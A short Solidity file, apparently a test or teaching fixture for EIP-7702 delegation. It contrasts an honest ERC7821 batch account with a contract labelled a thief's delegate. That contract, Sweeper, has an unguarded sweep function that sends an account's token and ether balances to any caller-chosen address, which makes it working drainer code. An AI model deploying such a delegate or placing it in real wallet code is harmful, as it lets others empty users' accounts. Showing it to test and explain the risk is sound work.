// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.26;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ERC7821} from "@openzeppelin/contracts/account/extensions/draft-ERC7821.sol";

/// An honest delegate of EIP-7702: the account itself, and nobody else, runs batches.
contract BatchAccount is ERC7821 {
    receive() external payable {}
}

/// A thief's delegate: anybody empties the account.
contract Sweeper {
    receive() external payable {}

    function sweep(IERC20 token, address payable to) external {
        token.transfer(to, token.balanceOf(address(this)));
        to.transfer(address(this).balance);
    }
}
